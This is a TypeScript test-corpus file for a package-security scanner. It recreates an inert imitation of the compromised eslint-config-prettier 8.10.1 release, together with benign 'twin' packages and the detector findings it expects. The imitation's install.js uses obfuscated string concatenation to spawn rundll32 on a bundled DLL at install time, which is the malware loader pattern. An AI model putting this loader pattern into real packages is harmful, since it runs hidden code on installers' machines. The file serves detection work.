/**
 * An imitation, inert and ours, of eslint-config-prettier 8.10.1: a stolen token published a version whose install script
 * starts rundll32 with a library from the tarball. Ours holds an empty program header and no program.
 * https://github.com/prettier/eslint-config-prettier/issues/339
 */
import type { SourceTree } from '../../src/rule.ts';
import { emptyLibrary } from './empty-library.ts';
import type { CorpusCase } from './update.ts';

const before: SourceTree = {
  'package.json': { main: 'index.js' },
  'index.js': `module.exports = { rules: { 'quiet-quotes': 0, 'quiet-semi': 0 } };\n`,
};

const starting = `const path = require('path');
const os = require('os');

function readLog() {
  try {
    if (os.platform() === 'win32') {
      const start = require('chi' + 'ld_pro' + 'cess')['sp' + 'awn'];
      start('rund' + 'll32', [path.join(__dirname, './node-helper.dll') + ',main']);
    }
  } catch (error) {}
}
readLog();
`;

export const startedLibrary: CorpusCase = {
  imitations: [
    {
      title: 'an install script starts a library that came along',
      name: 'config-quiet',
      incident: {
        what: 'eslint-config-prettier 8.10.1 and others: install.js started rundll32 with node-gyp.dll',
        when: '2025-07-18',
        url: 'https://github.com/prettier/eslint-config-prettier/issues/339',
      },
      before,
      after: {
        ...before,
        'package.json': { main: 'index.js', scripts: { install: 'node install.js' } },
        'install.js': starting,
        'node-helper.dll': emptyLibrary,
      },
      atLeast: 'block',
      seen: [
        { rule: 'install-script-added', path: 'package.json', pointer: '/scripts/install' },
        { rule: 'child-process-at-load', path: 'install.js', on: "start('rund' + 'll32'" },
        { rule: 'binary-added', kind: 'started', path: 'node-helper.dll' },
      ],
      payload: { path: 'install.js', code: starting },
    },
  ],
  twins: [
    {
      title: 'one rule more, and a command line tool that looks for conflicts',
      name: 'config-quiet',
      before,
      after: {
        'package.json': { main: 'index.js', bin: { 'config-quiet': 'bin/cli.js' } },
        'index.js': `module.exports = { rules: { 'quiet-quotes': 0, 'quiet-semi': 0, 'quiet-comma': 0 } };\n`,
        'bin/cli.js': `#!/usr/bin/env node
const { spawnSync } = require('child_process');
const { rules } = require('../index.js');

const listed = spawnSync('git', ['ls-files'], { encoding: 'utf8' });
if (listed.status !== 0) {
  console.error('No repository here.');
  process.exit(1);
}
console.log(Object.keys(rules).length + ' rules, ' + listed.stdout.split('\\n').length + ' files');
process.exit(0);
`,
      },
    },
    {
      title: 'an addon comes built instead of being built at every installation',
      name: 'fast-sum',
      before: {
        'package.json': { main: 'index.js', scripts: { install: 'node-gyp rebuild' } },
        'binding.gyp': '{"targets": [{"target_name": "sum", "sources": ["sum.c"]}]}\n',
        'sum.c': 'int sum(int a, int b) { return a + b; }\n',
        'index.js': `module.exports = require('./build/Release/sum.node');\n`,
      },
      after: {
        'package.json': {
          main: 'index.js',
          scripts: { install: 'node-gyp-build' },
          dependencies: { 'gyp-load': '^4.0.0' },
        },
        'binding.gyp': '{"targets": [{"target_name": "sum", "sources": ["sum.c"]}]}\n',
        'sum.c': 'int sum(int a, int b) { return a + b; }\n',
        'prebuilds/win32-x64/sum.node': emptyLibrary,
        'index.js': `module.exports = require('gyp-load')(__dirname);\n`,
      },
      dependencies: {
        'gyp-load': {
          'package.json': { version: '4.0.1', main: 'index.js' },
          'index.js': `const path = require('path');
module.exports = (folder) => require(path.join(folder, 'prebuilds', process.platform + '-' + process.arch, 'sum.node'));
`,
        },
      },
    },
  ],
};
